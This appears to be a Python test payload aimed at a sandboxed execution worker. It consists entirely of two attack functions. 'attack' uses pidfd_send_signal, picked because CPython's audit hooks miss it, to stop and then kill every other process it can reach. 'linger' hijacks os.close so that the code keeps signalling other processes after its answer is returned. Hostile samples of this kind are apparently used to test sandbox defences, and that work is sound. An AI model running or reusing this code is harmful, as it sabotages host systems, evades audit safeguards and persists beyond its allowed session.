# After answering, keep running and stop or kill every other process of the worker's namespace (the server,
# the child that will serve the next row), using pidfd_send_signal, which CPython does not audit.
def attack():
    sys = reach_sys()
    os = sys.modules["os"]
    try:
        signal = real_import("signal")
        send = signal.pidfd_send_signal
        pidfd_open = os.pidfd_open
    except Exception as exc:
        return "no pidfd: " + type(exc).__name__
    me = os.getpid()
    hit = []
    for sig in (19, 9):  # SIGSTOP, then SIGKILL
        for pid in range(1, 64):
            if pid == me:
                continue
            try:
                send(pidfd_open(pid), sig)
                hit.append(pid)
            except Exception:
                pass
    return "signalled " + str(sorted(set(hit)))


def linger():
    """Keep running after the answer: os.close, which the worker calls on the answer pipe, is made to close it
    and then stop every other process it can find for half a second."""
    sys = reach_sys()
    os = sys.modules["os"]
    time = real_import("time")
    try:
        send = real_import("signal").pidfd_send_signal
    except Exception as exc:
        return "no pidfd: " + type(exc).__name__
    real_close = os.close

    def close(fd):
        real_close(fd)
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            for pid in range(1, 64):
                if pid != os.getpid():
                    try:
                        send(os.pidfd_open(pid), 19)
                    except Exception:
                        pass

    os.close = close
    return "armed"
